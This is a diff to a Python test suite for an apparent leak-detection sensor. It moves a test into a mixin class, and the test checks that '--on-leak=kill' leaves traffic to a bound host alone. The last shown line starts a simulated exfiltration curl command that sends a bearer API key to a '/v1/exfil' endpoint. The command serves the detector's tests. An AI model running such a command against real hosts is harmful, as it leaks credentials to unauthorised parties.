@@ -82,8 +82,20 @@ class SensorCase(BlindTestCase):
             self.assertNoSecret(f.read(), CANARY, "audit log")
 
 
+class KillKeepsBoundTraffic:
+    """Mixed into each witness's suite: --on-leak=kill must not touch a bound host's writes."""
+
+    def test_on_leak_kill_lets_bound_traffic_through(self):
+        script = self.write("leaker.py", LEAKER)
+        r = self.run_std(PY, script, self.good + "/v1/ok-1", self.good + "/v1/ok-2", self.ca["ca"],
+                         flags=["--on-leak=kill"])
+        self.assertEqual(r.returncode, 0, self.diag(r))
+        self.assertEqual(len(self.records(self.rec, "/v1/ok-")), 2)
+        self.assertFalse(self.audit_events("leak"), self.diag(r))
+
+
 @unittest.skipIf(WHY, "TLS tap %s" % WHY)
-class SensorTest(SensorCase):
+class SensorTest(KillKeepsBoundTraffic, SensorCase):
     SENSORS = ("--sensors=full",)
 
     def test_standard_leak_is_recorded_with_host_peer_and_lineage(self):
@@ -143,14 +155,6 @@ class SensorTest(SensorCase):
         self.assertEqual(len(leak), 1, self.diag(r))
         self.assertIn("killed", leak[0].get("reason", ""))
         self.assertNoCanaryInAudit()
-
-    def test_on_leak_kill_lets_bound_traffic_through(self):
-        script = self.write("leaker.py", LEAKER)
-        r = self.run_std(PY, script, self.good + "/v1/ok-1", self.good + "/v1/ok-2", self.ca["ca"],
-                         flags=["--on-leak=kill"])
-        self.assertEqual(r.returncode, 0, self.diag(r))
-        self.assertEqual(len(self.records(self.rec, "/v1/ok-")), 2)
-        self.assertFalse(self.audit_events("leak"), self.diag(r))
 
     def test_blind_exfil_is_recorded_with_the_same_facts_as_the_refusal(self):
         cmd = ('curl -sS --max-time 20 --http1.1 --cacert "%s" -H "Authorization: Bearer $API_KEY" %s/v1/exfil '
